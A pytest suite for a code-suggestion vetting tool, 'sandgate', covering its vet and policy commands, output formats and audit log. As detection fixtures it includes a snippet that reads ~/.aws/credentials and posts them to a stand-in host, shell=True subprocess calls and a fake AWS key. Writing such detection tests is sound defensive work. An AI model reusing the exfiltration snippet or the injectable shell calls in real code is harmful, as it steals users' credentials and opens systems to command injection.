"""The pipeline and the `sandgate vet` / `sandgate policy` commands, run as a user runs them."""

from __future__ import annotations

import hashlib
import json
import os
import re
import subprocess
import sys
from pathlib import Path

import jsonschema
import pytest

from sandgate.findings import Origin, Verdict
from sandgate.pipeline import Vetter
from sandgate.policy.load import load_effective
from sandgate.suggestion import Suggestion

from .conftest import REPO, STATIC_POLICY, load_static

DOC = """import subprocess


def existing(cmd):
    subprocess.call(cmd, shell=True)


def new_code(path):
    
"""


COMPLETE = DOC + "    return path\n"


def sandgate(*args: str, cwd: Path) -> subprocess.CompletedProcess:
    env = {k: v for k, v in os.environ.items() if k != "FORCE_COLOR"}
    return subprocess.run(
        [sys.executable, "-m", "sandgate", *args], cwd=cwd, env=env, capture_output=True, text=True, timeout=120
    )


def vet_into(workspace: Path, doc: str, at: str, snippet: str, *extra: str) -> tuple[subprocess.CompletedProcess, dict]:
    """`sandgate vet --format json --into DOC --at AT SNIPPET` (the static policy) in `workspace`: the
    process and its one result."""
    args = ("vet", "--policy", STATIC_POLICY, "--format", "json", *extra, "--into", doc, "--at", at, snippet)
    done = sandgate(*args, cwd=workspace)
    [result] = json.loads(done.stdout)["results"]
    return done, result


def test_existing_code_findings_are_reported_not_blamed(static_workspace):
    vetter = Vetter(load_static(static_workspace), workspace=static_workspace)
    result = vetter.vet(Suggestion("return open(path).read()", document=DOC, line=8, character=4, path="mod.py"))
    b602 = [f for f in result.findings if f.rule == "B602"]
    assert b602 and b602[0].origin is Origin.DOCUMENT
    assert result.verdict is Verdict.ALLOW
    assert result.sandbox is None and "sandbox.backends is empty" in result.sandbox_skipped


def test_each_finding_carries_the_decision_it_drew(static_workspace):
    """The same rule in the user's code and in the suggestion: each finding says its own decision
    (the user's is "existing"), taken from the reason that names that finding, not from its key."""
    vetter = Vetter(load_static(static_workspace), workspace=static_workspace)
    result = vetter.vet(
        Suggestion("return subprocess.check_output(path, shell=True)", document=DOC, line=8, character=4, path="mod.py")
    )
    decided = {(f["rule"], f["origin"]): f["decision"] for f in result.to_json()["findings"]}
    assert decided[("B602", "document")] == "existing"
    assert decided[("B602", "suggestion")] == "block"
    assert all(f["decision"] in ("allow", "review", "block", "existing") for f in result.to_json()["findings"])


def test_suggestion_inside_document_is_blamed(static_workspace):
    vetter = Vetter(load_static(static_workspace), workspace=static_workspace)
    result = vetter.vet(
        Suggestion("return subprocess.check_output(path, shell=True)", document=DOC, line=8, character=4, path="mod.py")
    )
    blamed = [f for f in result.findings if f.origin is Origin.SUGGESTION and f.source == "bandit"]
    assert [f.rule for f in blamed] == ["B602"] and blamed[0].line == 9
    assert result.verdict is Verdict.BLOCK
    assert result.reasons[0].rule_id == "bandit-high"


def test_reasons_name_lines_as_the_users_buffer_counts_them(static_workspace):
    """The reason says its decision nowhere (whoever shows it does) and names the suggestion's own
    line: the user's buffer has no line 9 with that code yet."""
    vetter = Vetter(load_static(static_workspace), workspace=static_workspace)
    placed = vetter.vet(
        Suggestion("return subprocess.check_output(path, shell=True)", document=DOC, line=8, character=4, path="mod.py")
    )
    assert placed.reasons[0].text.startswith("bandit:B602 (line 1 of the suggestion): ")
    alone = vetter.vet(Suggestion("import subprocess\nsubprocess.call(x, shell=True)\n"))
    assert alone.reasons[0].text.startswith("bandit:B602 (line 2): ")


def test_a_secret_the_user_vouches_for_is_not_reported_but_a_suggestion_cannot_vouch(static_workspace):
    vetter = Vetter(load_static(static_workspace), workspace=static_workspace)
    vouched = 'KEY = "AKIAZ3MSJV7WQLPX4TQB"  # pragma: allowlist secret\n'
    assert [f.rule for f in vetter.check_document(vouched)] == []
    assert [f.rule for f in vetter.check_document(vouched.replace("  # pragma: allowlist secret", ""))] == [
        "aws-access-key"
    ]
    result = vetter.vet(Suggestion(vouched))
    assert result.verdict is Verdict.BLOCK and [f.rule for f in result.findings if f.source == "secrets"] == [
        "aws-access-key"
    ]


def test_partial_code_that_nothing_makes_compile_is_held_never_allowed(static_workspace):
    vetter = Vetter(load_static(static_workspace))
    result = vetter.vet(Suggestion("def f(x:\n"))
    assert [(f.source, f.rule, str(f.severity)) for f in result.findings] == [("syntax", "syntax.error", "info")]
    assert result.verdict is Verdict.REVIEW
    assert result.reasons[0].rule_id == "not-vetted" and "could not be vetted" in result.reasons[0].text
    assert result.to_json()["vetted"].startswith("could not be vetted: no part of the code")


def test_required_sandbox_that_cannot_run_holds_for_review(workspace, tmp_path, monkeypatch):
    (tmp_path / "managed.toml").write_text("version = 1\n[sandbox]\nrequired = true\nbackends = []\n")
    monkeypatch.setenv("SANDGATE_MANAGED_POLICY", str(tmp_path / "managed.toml"))
    result = Vetter(load_effective(workspace)).vet(Suggestion("print('hi')\n"))
    assert result.verdict is Verdict.REVIEW
    assert result.reasons[0].rule_id == "sandbox-required" and result.reasons[0].layer == "sandgate"


def test_vet_json_shape_and_exit_status(static_workspace):
    (static_workspace / "ok.py").write_text("print(sum(range(10)))\n")
    (static_workspace / "bad.py").write_text(COMPLETE)
    done = sandgate("vet", "--policy", STATIC_POLICY, "--format", "json", "ok.py", "bad.py", cwd=static_workspace)
    assert done.returncode == 1, done.stderr
    results = json.loads(done.stdout)["results"]
    assert [(r["path"], r["decision"]) for r in results] == [("ok.py", "allow"), ("bad.py", "block")]
    finding = next(f for f in results[1]["findings"] if f["rule"] == "B602")
    assert {"source", "rule", "severity", "confidence", "message", "line", "end_line"} <= set(finding)
    assert (finding["source"], finding["severity"], finding["confidence"], finding["line"]) == (
        "bandit",
        "high",
        "high",
        5,
    )
    assert results[1]["reasons"][0]["policy_rule"] == "bandit-high"
    assert {"backend", "exit_code", "duration_ms", "timed_out", "events"} <= set(results[1]["sandbox"])
    assert "[1/2] vetting ok.py" in done.stderr  # progress on stderr, never stdout

    only_ok = sandgate(
        "vet", "--policy", STATIC_POLICY, "--format", "json", "--no-audit", "ok.py", cwd=static_workspace
    )
    assert only_ok.returncode == 0, only_ok.stderr


def test_readme_names_every_key_of_the_json_output(static_workspace):
    """README's `--format json` paragraph lists the keys a result and a finding have, all of them."""
    (static_workspace / "bad.py").write_text(COMPLETE)
    done = sandgate("vet", "--policy", STATIC_POLICY, "--format", "json", "--no-audit", "bad.py", cwd=static_workspace)
    result = json.loads(done.stdout)["results"][0]
    readme = (REPO / "README.md").read_text()
    paragraph = readme[readme.index("`--format json` prints") :].split("\n\n", 1)[0]
    listed = re.search(r'\{"results": \[\{(.*?)\}\]\}', paragraph, re.S)
    assert listed is not None
    assert set(re.findall(r'"(\w+)"', listed.group(1))) == set(result)
    of_a_finding = paragraph[paragraph.index("Each finding has") :]
    assert result["findings"]
    for finding in result["findings"]:
        missing = [key for key in finding if f"`{key}`" not in of_a_finding]
        assert not missing, f"README does not name the finding keys {missing}"


def test_vet_appends_its_decisions_to_the_audit_log(static_workspace):
    (static_workspace / "bad.py").write_text(COMPLETE)
    sandgate("vet", "--policy", STATIC_POLICY, "bad.py", cwd=static_workspace)
    sandgate("vet", "--policy", STATIC_POLICY, "--no-audit", "bad.py", cwd=static_workspace)
    lines = (static_workspace / ".sandgate" / "audit.jsonl").read_text().splitlines()
    assert len(lines) == 1
    record = json.loads(lines[0])
    assert (record["event"], record["file"], record["decision"], record["decided_by"]) == (
        "decision",
        "bad.py",
        "block",
        "policy",
    )
    assert record["content_sha256"] == hashlib.sha256(COMPLETE.encode()).hexdigest()
    assert any(f["rule"] == "B602" for f in record["findings"])
    assert record["summary"] is None  # adds nothing its document could not do: shell=True is bandit's
    verified = sandgate("audit", "verify", cwd=static_workspace)
    assert verified.returncode == 0 and verified.stdout.startswith("ok: 1 record verified")


def test_the_audit_record_carries_the_capability_summary(static_workspace):
    """The one line the diagnostic leads with ("adds: …") is in the decision record, and the chain
    with it verifies; a record whose summary is edited afterwards does not."""
    (static_workspace / "sync.py").write_text(
        "import pathlib\nimport requests\n\n\ndef upload():\n"
        '    data = pathlib.Path("~/.aws/credentials").expanduser().read_text()\n'
        '    requests.post("https://metrics.example.net/c", data=data, timeout=5)\n'
    )
    done = sandgate("vet", "--policy", STATIC_POLICY, "sync.py", cwd=static_workspace)
    assert done.returncode != 0, done.stdout
    path = static_workspace / ".sandgate" / "audit.jsonl"
    record = json.loads(path.read_text().splitlines()[0])
    assert record["summary"].startswith("adds: "), record["summary"]
    assert "metrics.example.net" in record["summary"] and "~/.aws/credentials" in record["summary"]
    verified = sandgate("audit", "verify", cwd=static_workspace)
    assert verified.returncode == 0 and verified.stdout.startswith("ok: 1 record verified"), verified.stdout
    edited = {**record, "summary": None}  # re-encoded as the log encodes, hash kept: the edit alone
    path.write_text(json.dumps(edited, sort_keys=True, separators=(",", ":"), ensure_ascii=True) + "\n")
    assert sandgate("audit", "verify", cwd=static_workspace).returncode != 0


def test_vet_into_document_at_position(static_workspace):
    (static_workspace / "doc.py").write_text(DOC)
    (static_workspace / "s.py").write_text("return subprocess.check_output(path, shell=True)")
    done, result = vet_into(static_workspace, "doc.py", "9:5", "s.py")
    origins = {(f["rule"], f["line"]): f["origin"] for f in result["findings"] if f["source"] == "bandit"}
    assert origins[("B602", 5)] == "document" and origins[("B602", 9)] == "suggestion"
    assert result["decision"] == "block" and result["path"] == "doc.py"


def test_the_line_after_the_last_is_a_new_line_when_doc_has_no_final_break(static_workspace):
    """`--at N+1:1` on a DOC of N lines without a final line break puts the suggestion on a line of
    its own, as an editor would, not glued onto DOC's last line (which no longer compiles)."""
    (static_workspace / "doc.py").write_text("import subprocess")  # no final line break
    (static_workspace / "s.py").write_text("subprocess.call(cmd, shell=True)\n")
    done, result = vet_into(static_workspace, "doc.py", "2:1", "s.py", "--no-audit")
    assert not [f for f in result["findings"] if f["source"] == "syntax"], result["findings"]
    assert result["vetted"] is None  # the whole document, as placed, compiled
    placed = [(f["rule"], f["line"], f["origin"]) for f in result["findings"] if f["source"] == "bandit"]
    assert ("B602", 2, "suggestion") in placed and ("B404", 1, "document") in placed, placed
    assert result["decision"] == "block"


def test_bad_usage_exits_2(static_workspace):
    (static_workspace / "s.py").write_text("x = 1\n")
    assert sandgate("vet", "--policy", STATIC_POLICY, "--at", "3:1", "s.py", cwd=static_workspace).returncode == 2
    bad_at = sandgate("vet", "--policy", STATIC_POLICY, "--into", "s.py", "--at", "zero", "s.py", cwd=static_workspace)
    assert bad_at.returncode == 2 and "--at takes LINE:COL" in bad_at.stderr
    # A column past the end of its line is an error (not clamped to the line's end); the line's end is not.
    past_col = sandgate("vet", "--policy", STATIC_POLICY, "--into", "s.py", "--at", "1:7", "s.py", cwd=static_workspace)
    assert past_col.returncode == 2 and "past the end of line 1 of s.py" in past_col.stderr, past_col.stderr
    assert "COL is at most 6" in past_col.stderr
    end_of_line = sandgate(
        "vet", "--policy", STATIC_POLICY, "--into", "s.py", "--at", "1:6", "s.py", cwd=static_workspace
    )
    assert end_of_line.returncode == 0, end_of_line.stderr
    after_last = sandgate(
        "vet", "--policy", STATIC_POLICY, "--into", "s.py", "--at", "2:2", "s.py", cwd=static_workspace
    )
    assert after_last.returncode == 2 and "past the end of line 2" in after_last.stderr
    (static_workspace / "one.py").write_text("x")  # counts in the singular: one line, one character
    one_line = sandgate(
        "vet", "--policy", STATIC_POLICY, "--into", "one.py", "--at", "3:1", "s.py", cwd=static_workspace
    )
    assert one_line.returncode == 2 and "past the end of one.py (1 line)" in one_line.stderr, one_line.stderr
    one_char = sandgate(
        "vet", "--policy", STATIC_POLICY, "--into", "one.py", "--at", "1:3", "s.py", cwd=static_workspace
    )
    assert one_char.returncode == 2 and "it has 1 character, so COL is at most 2" in one_char.stderr
    missing = sandgate("vet", "--policy", STATIC_POLICY, "absent.py", cwd=static_workspace)
    assert missing.returncode == 2 and "cannot read absent.py" in missing.stderr
    assert sandgate("vet", "--policy", STATIC_POLICY, "--format", "xml", "s.py", cwd=static_workspace).returncode == 2


def test_broken_policy_exits_2_naming_file_line_and_key(workspace):
    (workspace / ".sandgate" / "policy.toml").write_text('version = 1\n[sandbox.limits]\nmemory_mb = "lots"\n')
    (workspace / "s.py").write_text("x = 1\n")
    done = sandgate("vet", "s.py", cwd=workspace)
    assert done.returncode == 2
    assert f"{workspace}/.sandgate/policy.toml:3: sandbox.limits.memory_mb: must be a whole number" in done.stderr
    assert done.stdout == ""


def test_sarif_output_validates_against_the_schema(static_workspace):
    (static_workspace / "bad.py").write_text(COMPLETE)
    done = sandgate("vet", "--policy", STATIC_POLICY, "--format", "sarif", "bad.py", cwd=static_workspace)
    sarif = json.loads(done.stdout)
    schema = json.loads((REPO / "tests" / "audit" / "sarif-schema-2.1.0.json").read_text())
    jsonschema.validate(sarif, schema)
    results = sarif["runs"][0]["results"]
    b602 = next(r for r in results if r["ruleId"] == "bandit/B602")
    assert b602["level"] == "error"
    assert b602["locations"][0]["physicalLocation"]["region"]["startLine"] == 5
    rules = sarif["runs"][0]["tool"]["driver"]["rules"]
    assert rules[b602["ruleIndex"]]["id"] == "bandit/B602"
    assert "external/cwe/cwe-78" in rules[b602["ruleIndex"]]["properties"]["tags"]


def test_vet_sarif_and_audit_export_sarif_agree_on_each_finding(static_workspace):
    (static_workspace / "bad.py").write_text(COMPLETE)
    vetted = sandgate("vet", "--policy", STATIC_POLICY, "--format", "sarif", "bad.py", cwd=static_workspace)
    exported = sandgate("audit", "export", "--format", "sarif", cwd=static_workspace)
    assert exported.returncode == 0, exported.stderr
    schema = json.loads((REPO / "tests" / "audit" / "sarif-schema-2.1.0.json").read_text())
    runs = []
    for done in (vetted, exported):
        sarif = json.loads(done.stdout)
        jsonschema.validate(sarif, schema)
        runs.append(sarif["runs"][0]["results"])
    said = [[(r["ruleId"], r["level"], r["message"]["text"]) for r in results] for results in runs]
    assert said[0] == said[1]
    levels = {rule: level for rule, level, _ in said[0]}
    assert levels["bandit/B602"] == "error" and levels["bandit/B404"] == "note"  # high and low


def test_files_outside_the_workspace_are_reported_by_absolute_path(static_workspace):
    """Two `m.py` from folders outside the workspace stay apart in every format: text and JSON name
    each by its absolute path, SARIF by a `file://` URI of its own (not under `%SRCROOT%`, where it
    is not); a file inside the workspace keeps its workspace-relative path."""
    outside = static_workspace.parent
    for folder, code in (("x1", "print(1)\n"), ("x2", COMPLETE)):
        (outside / folder).mkdir()
        (outside / folder / "m.py").write_text(code)
    (static_workspace / "pkg").mkdir()
    (static_workspace / "pkg" / "bad.py").write_text(COMPLETE)
    first, second = str(outside / "x1" / "m.py"), str(outside / "x2" / "m.py")
    files = (first, second, "pkg/bad.py")

    text = sandgate("vet", "--policy", STATIC_POLICY, "--no-audit", *files, cwd=static_workspace)
    verdicts = [line.split(maxsplit=1) for line in text.stdout.splitlines() if line[:1].isupper()]
    assert verdicts[:3] == [["ALLOW", first], ["BLOCK", second], ["BLOCK", "pkg/bad.py"]], text.stdout
    assert f"vetting {second}" in text.stderr

    as_json = sandgate("vet", "--policy", STATIC_POLICY, "--format", "json", *files, cwd=static_workspace)
    assert [r["path"] for r in json.loads(as_json.stdout)["results"]] == [first, second, "pkg/bad.py"]
    recorded = [json.loads(line)["file"] for line in (static_workspace / ".sandgate" / "audit.jsonl").open()]
    assert recorded == [first, second, "pkg/bad.py"]  # the audit log names them the same way

    sarif = json.loads(
        sandgate(
            "vet", "--policy", STATIC_POLICY, "--format", "sarif", "--no-audit", *files, cwd=static_workspace
        ).stdout
    )
    jsonschema.validate(sarif, json.loads((REPO / "tests" / "audit" / "sarif-schema-2.1.0.json").read_text()))
    places = {
        json.dumps(r["locations"][0]["physicalLocation"]["artifactLocation"], sort_keys=True)
        for r in sarif["runs"][0]["results"]
    }
    assert places == {
        json.dumps({"uri": (outside / "x2" / "m.py").as_uri()}, sort_keys=True),
        json.dumps({"uri": "pkg/bad.py", "uriBaseId": "%SRCROOT%"}, sort_keys=True),
    }


def test_text_format_is_a_table_without_colour_when_piped(static_workspace):
    (static_workspace / "bad.py").write_text(COMPLETE)
    done = sandgate("vet", "--policy", STATIC_POLICY, "bad.py", cwd=static_workspace)
    assert done.stdout.startswith("BLOCK   bad.py")
    assert "bandit:B602" in done.stdout and "\x1b[" not in done.stdout
    assert done.stdout.rstrip().endswith("0 allow, 0 review, 1 block")
    coloured = sandgate("vet", "--policy", STATIC_POLICY, "--color", "always", "bad.py", cwd=static_workspace)
    assert "\x1b[" in coloured.stdout


def test_policy_show_names_layers(workspace):
    (workspace / ".sandgate" / "policy.toml").write_text("version = 1\n[sandbox.limits]\nmemory_mb = 64\n")
    done = sandgate("policy", "show", cwd=workspace)
    assert done.returncode == 0
    lines = done.stdout.splitlines()
    assert any(ln.startswith("sandbox.limits.memory_mb = 64") and ln.endswith(".sandgate/policy.toml") for ln in lines)
    assert any(ln.startswith("sandbox.limits.wall_time_s = 3") and ln.endswith("preset:balanced") for ln in lines)
    shown = json.loads(sandgate("policy", "show", "--format", "json", cwd=workspace).stdout)
    assert shown["preset"] == "balanced" and shown["policy"]["sandbox"]["limits"]["memory_mb"] == 64


def test_policy_validate(workspace):
    good = workspace / "good.toml"
    good.write_text('version = 1\nextends = "strict"\n')
    bad = workspace / "bad.toml"
    bad.write_text('version = 1\n[network]\nallow_hosts = ["*.com"]\n')
    assert sandgate("policy", "validate", str(good), cwd=workspace).stdout.strip() == f"{good}: ok"
    done = sandgate("policy", "validate", str(good), str(bad), cwd=workspace)
    assert done.returncode == 2
    assert f"{bad}:3: network.allow_hosts[0]: '*.com' covers a whole top-level domain" in done.stdout


@pytest.mark.parametrize("preset", ["strict", "balanced", "permissive"])
def test_policy_validate_accepts_shipped_presets(preset, workspace):
    assert sandgate("policy", "validate", str(REPO / "policies" / f"{preset}.toml"), cwd=workspace).returncode == 0


def test_a_mistyped_preset_is_named_with_the_presets_and_the_closest(workspace):
    (workspace / "s.py").write_text("x = 1\n")
    done = sandgate("vet", "--no-audit", "--policy", "strictt", "s.py", cwd=workspace)
    assert done.returncode == 2
    assert "strictt: no such file, nor a preset (the presets: strict, balanced, permissive)" in done.stderr
    assert "did you mean 'strict'?" in done.stderr, done.stderr
    far = sandgate("vet", "--no-audit", "--policy", "nonsense", "s.py", cwd=workspace)
    assert far.returncode == 2 and "the presets: strict" in far.stderr and "did you mean" not in far.stderr
    # A path is a path: only "file not found", no presets offered.
    path = sandgate("vet", "--no-audit", "--policy", "conf/strictt.toml", "s.py", cwd=workspace)
    assert path.returncode == 2 and "conf/strictt.toml: file not found" in path.stderr, path.stderr


def test_a_policy_file_with_a_byte_order_mark_is_read_as_without(workspace):
    """Windows editors start UTF-8 files with a BOM; the policy is read as if it had none (and a
    mistake in it is still found, on its line)."""
    (workspace / "s.py").write_text("x = 1\n")
    (workspace / "bom.toml").write_bytes(b"\xef\xbb\xbfversion = 1\nextends = 'strict'\n")
    assert sandgate("policy", "validate", "bom.toml", cwd=workspace).stdout.strip() == "bom.toml: ok"
    shown = json.loads(sandgate("policy", "show", "--format", "json", "--policy", "bom.toml", cwd=workspace).stdout)
    assert shown["preset"] == "strict"
    (workspace / "bad.toml").write_bytes(b"\xef\xbb\xbfversion = 1\n[sandbox.limits]\nmemory_mb = 'lots'\n")
    bad = sandgate("policy", "validate", "bad.toml", cwd=workspace)
    assert bad.returncode == 2 and "bad.toml:3: sandbox.limits.memory_mb: must be a whole number" in bad.stdout


def test_a_tsx_file_is_said_to_be_not_run_for_its_jsx_where_ts_runs(static_workspace):
    (static_workspace / "view.tsx").write_text("const n: number = 1;\nconsole.log(n);\n")
    (static_workspace / "view.ts").write_text("const n: number = 1;\nconsole.log(n);\n")
    done = sandgate("vet", "--policy", STATIC_POLICY, "--format", "json", "view.tsx", "view.ts", cwd=static_workspace)
    tsx, ts = json.loads(done.stdout)["results"]
    (finding,) = [f for f in tsx["findings"] if f["rule"] == "sandbox.unsupported-language"]
    assert finding["message"].startswith(
        "TSX files (TypeScript with JSX) are not run in Sandgate's sandbox yet: Node runs TypeScript by stripping "
        "its types, but does not compile JSX; only the static checks vetted this suggestion"
    ), finding["message"]
    assert "typescript cannot run" not in json.dumps(tsx)
    assert not [f for f in ts["findings"] if f["rule"] == "sandbox.unsupported-language"]  # a .ts file is run
